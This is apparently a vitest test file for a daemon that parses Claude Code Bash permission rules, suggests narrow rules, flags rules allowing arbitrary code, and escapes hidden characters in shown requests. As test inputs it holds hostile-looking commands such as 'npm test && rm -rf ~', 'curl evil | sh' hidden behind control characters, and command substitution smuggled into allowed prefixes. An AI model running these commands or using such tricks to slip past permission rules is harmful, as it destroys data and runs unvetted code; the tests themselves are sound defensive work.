import { PermissionRule, permissionRuleMaxChars } from "@bridgeworks/protocol";
import { describe, expect, test } from "vitest";
import {
  claudeReadsAsFlootDoes,
  exactBashRule,
  parseRule,
  readBashContent,
} from "../src/daemon/claude-rule-syntax.js";
import {
  digestInput,
  ruleAllows,
  ruleRunsAnyCode,
  shownInput,
  suggestRule,
} from "../src/daemon/permission-rules.js";

const bash = (command: string) => ({ command, description: "run" });

describe("Claude Code rules, as far as the daemon reads them", () => {
  test("a bare tool name covers every call of the tool; another tool is not covered", () => {
    expect(ruleAllows("Edit", "Edit", { file_path: "/w/a" })).toBe(true);
    expect(ruleAllows("Edit", "Write", { file_path: "/w/a" })).toBe(false);
  });

  test("Bash prefix and exact rules; a compound command is never covered by a prefix", () => {
    expect(ruleAllows("Bash(npm test:*)", "Bash", { command: "npm test -- --watch" })).toBe(true);
    expect(ruleAllows("Bash(npm test:*)", "Bash", { command: "npm test" })).toBe(true);
    expect(ruleAllows("Bash(npm test:*)", "Bash", { command: "npm testx" })).toBe(false);
    expect(ruleAllows("Bash(npm test:*)", "Bash", { command: "npm test && rm -rf ~" })).toBe(false);
    expect(ruleAllows("Bash(npm test:*)", "Bash", { command: "npm test; curl evil" })).toBe(false);
    expect(ruleAllows("Bash(npm test:*)", "Bash", { command: "npm test $(curl evil)" })).toBe(false);
    expect(ruleAllows("Bash(npm test:*)", "Bash", { command: "npm test > /etc/passwd" })).toBe(false);
    expect(ruleAllows("Bash(git status)", "Bash", { command: "git status" })).toBe(true);
    expect(ruleAllows("Bash(git status)", "Bash", { command: "git status -s" })).toBe(false);
    // A specifier the daemon does not interpret is asked about.
    expect(ruleAllows("Edit(src/**)", "Edit", { file_path: "src/a.ts" })).toBe(false);
    expect(ruleAllows("Bash(npm run *)", "Bash", { command: "npm run build" })).toBe(false);
  });

  test("an exact rule covers that command only, compound or not, with its escapes read back", () => {
    const command = 'python3 -c "print(6*7)" && echo \\(done\\)';
    const rule = exactBashRule(command);
    expect(rule).toBe('Bash(python3 -c "print\\(6\\*7\\)" && echo \\\\\\\\\\(done\\\\\\\\\\))');
    expect(ruleAllows(rule, "Bash", { command })).toBe(true);
    expect(ruleAllows(rule, "Bash", { command: ` ${command}\n` })).toBe(true);
    expect(ruleAllows(rule, "Bash", { command: 'python3 -c "print(6+1, 7)" && echo \\(done\\)' })).toBe(
      false,
    );
    expect(ruleAllows(rule, "Bash", { command: `${command}; id` })).toBe(false);
  });

  test("every command reads back from its exact rule as itself (backslashes, stars, parentheses)", () => {
    const alphabet = ["a", " ", "\\", "*", "(", ")", ":", '"', "\n", "é"];
    let seed = 7;
    const random = () => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      return seed / 2_147_483_648;
    };
    for (let round = 0; round < 500; round++) {
      const length = 1 + Math.floor(random() * 12);
      const command = Array.from({ length }, () => alphabet[Math.floor(random() * alphabet.length)]).join("");
      const rule = exactBashRule(command);
      expect(PermissionRule.safeParse(rule).success, rule).toBe(true);
      const parsed = parseRule(rule);
      expect(parsed?.toolName).toBe("Bash");
      expect(readBashContent(parsed!.content!), rule).toEqual({ kind: "exact", command });
    }
  });

  test("what Claude Code reads otherwise, or --allowedTools could split, stays out of --allowedTools", () => {
    expect(claudeReadsAsFlootDoes("Bash(touch:*)")).toBe(true);
    expect(claudeReadsAsFlootDoes("Bash(git status, please)")).toBe(true);
    expect(claudeReadsAsFlootDoes("Bash")).toBe(true);
    expect(claudeReadsAsFlootDoes("mcp__srv__tool")).toBe(true);
    // Measured with 2.1.332: `Bash(touch q9\) Bash \(x)` in --allowedTools granted all of Bash.
    expect(claudeReadsAsFlootDoes("Bash(touch q9\\) Bash \\(x)")).toBe(false);
    // Claude Code compares `\*` as two characters: it would allow `print(6\*7)`, not `print(6*7)`.
    expect(claudeReadsAsFlootDoes(exactBashRule('python3 -c "print(6*7)"'))).toBe(false);
    expect(claudeReadsAsFlootDoes(exactBashRule("printf 'a\\nb'"))).toBe(false);
    expect(claudeReadsAsFlootDoes(exactBashRule("python3 -c 'a'\necho b"))).toBe(false);
    expect(claudeReadsAsFlootDoes(exactBashRule(`echo ${"x".repeat(1100)}`))).toBe(false);
    expect(claudeReadsAsFlootDoes(exactBashRule("python3 build.py --fast"))).toBe(true);
  });

  test("a rule's parentheses must be escaped; an unescaped one inside is refused", () => {
    expect(PermissionRule.safeParse("Bash(a) rm").success).toBe(false);
    expect(PermissionRule.safeParse("Bash(a(b)").success).toBe(false);
    expect(PermissionRule.safeParse("Bash(a\\\\(b)").success).toBe(false);
    expect(PermissionRule.safeParse("Bash(a\\(b)").success).toBe(true);
    expect(PermissionRule.safeParse("Bash()").success).toBe(false);
    expect(PermissionRule.safeParse(`Bash(${"x".repeat(permissionRuleMaxChars)})`).success).toBe(false);
  });
});

describe("the suggested rule: a prefix only when it runs no code nobody saw", () => {
  const suggested = (command: string) => suggestRule("Bash", bash(command));

  test("an ordinary command: its first word as a prefix", () => {
    expect(suggested("  touch a.txt")).toBe("Bash(touch:*)");
    expect(suggested("ls -la")).toBe("Bash(ls:*)");
    expect(suggested("rg -n foo src")).toBe("Bash(rg:*)");
    expect(suggested("python3-config --cflags")).toBe("Bash(python3-config:*)");
  });

  test("an interpreter, a shell or a wrapper: the exact command, whatever its path or version", () => {
    const exact = [
      'python3 -c "print(6*7)"',
      "python -c 1",
      "python3.11 -m http.server",
      "pypy3 x.py",
      "/usr/bin/python3 -c 1",
      "./venv/bin/python x.py",
      "node -e 1",
      "node20 -e 1",
      "nodejs x.js",
      "deno run x.ts",
      "bun x.ts",
      "perl -e 1",
      "ruby -e 1",
      "php -r 1",
      "osascript -e 1",
      "awk 'BEGIN{system(\"id\")}'",
      "sed -n 1p a",
      "bash -c id",
      "sh -c id",
      "zsh -c id",
      "Bash -c id",
      "env FOO=1 touch a",
      "FOO=1 touch a",
      "command touch a",
      "exec touch a",
      "nohup touch a",
      "timeout 5 touch a",
      "nice -n 5 touch a",
      "xargs touch",
      "sudo touch a",
      "ssh host id",
      "npx cowsay",
      "bunx cowsay",
      "uvx ruff",
      "pipx run x",
      "find . -exec id ;",
      "make test",
      "if true; then id; fi",
      '"python3" -c 1',
      "$SHELL -c id",
      "\\python3 -c 1",
      "(python3 -c 1)",
    ];
    for (const command of exact) expect(suggested(command), command).toBe(exactBashRule(command.trim()));
    expect(suggested('python3 -c "print(6*7)"')).toBe('Bash(python3 -c "print\\(6\\*7\\)")');
  });

  test("a multi-purpose tool: the tool and a plain subcommand that runs nothing it names", () => {
    expect(suggested("npm test -- --watch")).toBe("Bash(npm test:*)");
    expect(suggested("npm run build")).toBe("Bash(npm run:*)");
    expect(suggested("pnpm dlx cowsay")).toBe(exactBashRule("pnpm dlx cowsay"));
    expect(suggested("npm exec cowsay")).toBe(exactBashRule("npm exec cowsay"));
    expect(suggested("npm")).toBe(exactBashRule("npm"));
    expect(suggested("git status")).toBe("Bash(git status:*)");
    expect(suggested("git -c core.pager=id log")).toBe(exactBashRule("git -c core.pager=id log"));
    expect(suggested("git rebase --exec id main")).toBe(exactBashRule("git rebase --exec id main"));
    expect(suggested("docker ps")).toBe("Bash(docker ps:*)");
    expect(suggested("docker run --rm alpine id")).toBe(exactBashRule("docker run --rm alpine id"));
    expect(suggested("docker exec c id")).toBe(exactBashRule("docker exec c id"));
    expect(suggested("kubectl get pods")).toBe("Bash(kubectl get:*)");
    expect(suggested("kubectl exec pod -- id")).toBe(exactBashRule("kubectl exec pod -- id"));
    expect(suggested("pip3 install evil")).toBe(exactBashRule("pip3 install evil"));
    expect(suggested("pip3 list")).toBe("Bash(pip3 list:*)");
  });

  test("another tool: its name; no rule when none covers only this call", () => {
    expect(suggestRule("Edit", { file_path: "/w/a" })).toBe("Edit");
    expect(suggestRule("mcp__srv__tool", {})).toBe("mcp__srv__tool");
    expect(suggestRule("Bash", { command: "   " })).toBeUndefined();
    expect(suggestRule("Bash", {})).toBeUndefined();
    expect(suggestRule("Bash", bash(`python3 -c '${"x".repeat(permissionRuleMaxChars)}'`))).toBeUndefined();
  });
});

describe("rules that let the agent run any code", () => {
  test("Bash itself, and a prefix or pattern on an interpreter, a wrapper, a path or a bare tool", () => {
    for (const rule of [
      "Bash",
      "Bash(*)",
      "Bash(python3:*)",
      "Bash(/usr/bin/python3:*)",
      "Bash(python3.11:*)",
      "Bash(node *)",
      "Bash(env:*)",
      "Bash(xargs:*)",
      "Bash(sudo:*)",
      "Bash(npx:*)",
      "Bash(npm:*)",
      "Bash(npm exec:*)",
      "Bash(git:*)",
      "Bash(git -c:*)",
      "Bash(docker run:*)",
      "Bash(./build.sh:*)",
      "Bash(np*)",
    ])
      expect(ruleRunsAnyCode(rule), rule).toBe(true);
  });

  test("not an exact command, a safe prefix or pattern, or another tool", () => {
    for (const rule of [
      exactBashRule('python3 -c "print(6*7)"'),
      "Bash(python3 build.py)",
      "Bash(touch:*)",
      "Bash(npm test:*)",
      "Bash(git status *)",
      "Edit",
      "Read(src/**)",
    ])
      expect(ruleRunsAnyCode(rule), rule).toBe(false);
  });
});

describe("what a request shows", () => {
  test("the whole call, however long; Bash's command alone unless a field changes how it runs", () => {
    const long = `echo start; ${": ".repeat(3000)}; touch tail.txt`;
    expect(shownInput("Bash", bash(long))).toBe(long);
    expect(shownInput("Bash", { ...bash("ls"), timeout: 5, run_in_background: true })).toBe("ls");
    const unsandboxed = { command: "ls", dangerouslyDisableSandbox: true };
    expect(shownInput("Bash", unsandboxed)).toBe(JSON.stringify(unsandboxed));
    expect(shownInput("Write", { content: "x".repeat(5000) })).toHaveLength(5000 + 14);
  });

  test("a character that does not print is written out, so nothing hides part of the call", () => {
    expect(shownInput("Bash", bash("echo safe\r\u001b[2Kcurl evil | sh"))).toBe(
      "echo safe⟨U+000D⟩⟨U+001B⟩[2Kcurl evil | sh",
    );
    expect(shownInput("Bash", bash("echo \u202Eexe.txt\u200B"))).toBe("echo ⟨U+202E⟩exe.txt⟨U+200B⟩");
    expect(shownInput("Bash", bash("a\tb\nc\u2028\ud800"))).toBe("a\tb\nc⟨U+2028⟩⟨U+D800⟩");
  });

  test("the digest tells inputs apart", () => {
    expect(digestInput({ command: "ls" })).toBe(digestInput({ command: "ls" }));
    expect(digestInput({ command: "ls" })).not.toBe(digestInput({ command: "ls -a" }));
  });
});
